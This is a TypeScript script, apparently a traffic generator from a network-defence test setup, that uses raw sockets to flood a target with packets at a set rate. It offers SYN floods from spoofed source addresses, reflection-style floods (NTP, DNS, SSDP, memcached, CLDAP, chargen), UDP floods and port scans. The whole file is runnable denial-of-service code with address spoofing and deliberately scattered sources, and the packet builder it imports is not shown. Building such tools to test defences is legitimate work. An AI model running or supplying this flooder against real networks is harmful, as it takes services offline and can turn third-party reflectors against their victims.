/**
 * What somebody does who wants to fill a line or a connection table: packets with any source, as fast as is asked for.
 *   send-flood.ts KIND FAMILY TARGET PER_SECOND SECONDS [SOURCES]
 * KIND: `syn` (requests for connections to port 443 from sources that differ each time), `connections` (the same from one
 * source), `ntp`, `dns`, `ssdp`, `memcached`, `cldap`, `chargen` (answers nobody asked for), `udp` (datagrams to ports that
 * differ), `scan` (one source, one port after the other). SOURCES: `a/bits` a block of invented addresses, or one address.
 * Raw sockets: raw(7), ipv6(7). Prints one JSON line: { sent, seconds }.
 */
import koffi from 'koffi';
import { floodPacket, isFloodKind } from './flood-packet.ts';

const [kind = '', family = '4', target = '', perSecond = '', seconds = '', sources = ''] = process.argv.slice(2);
const AF_INET = 2;
const AF_INET6 = 10;
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const TURN_MS = 4;

const libc = koffi.load('libc.so.6');
const socket = libc.func('int socket(int domain, int type, int protocol)');
const sendto = libc.func('long sendto(int fd, const void *data, size_t length, int flags, const void *to, int size)');
const pton = libc.func('int inet_pton(int domain, const char *text, _Out_ uint8_t *bytes)');

if (!isFloodKind(kind)) throw new Error(`no flood is called ${kind}`);
const v6 = family === '6';
const domain = v6 ? AF_INET6 : AF_INET;
const fd = socket(domain, SOCK_RAW, IPPROTO_RAW);
if (fd < 0) throw new Error('raw sockets need root');
const [block = '', bits = v6 ? '128' : '32'] = sources.split('/');
const to = bytesOf(target);
const address = Buffer.alloc(v6 ? 28 : 16);
address.writeUInt16LE(domain, 0);
to.copy(address, v6 ? 8 : 4);
const from = bytesOf(block);
const invented = 2 ** Math.min(24, (v6 ? 128 : 32) - Number(bits));

const begun = performance.now();
const total = Number(perSecond) * Number(seconds);
let sent = 0;
while (sent < total) {
  const due = Math.min(total, Math.ceil(((performance.now() - begun) / 1000) * Number(perSecond)));
  for (; sent < due; sent += 1) {
    const packet = floodPacket(kind, v6, sourceOf(sent), to, sent);
    sendto(fd, packet, packet.length, 0, address, address.length);
  }
  await new Promise((resolve) => setTimeout(resolve, TURN_MS));
}
process.stdout.write(`${JSON.stringify({ sent, seconds: Math.round(performance.now() - begun) / 1000 })}\n`);

function bytesOf(text: string): Buffer {
  const bytes = Buffer.alloc(v6 ? 16 : 4);
  if (pton(domain, text, bytes) !== 1) throw new Error(`${text} is no address`);
  return bytes;
}

/** Walks through the block in leaps, so that neighbours do not follow each other. */
function sourceOf(index: number): Buffer {
  const source = Buffer.from(from);
  const at = source.length - 4;
  const host = (index * 7919) % invented;
  source.writeUInt32BE((source.readUInt32BE(at) + host) >>> 0, at);
  return source;
}
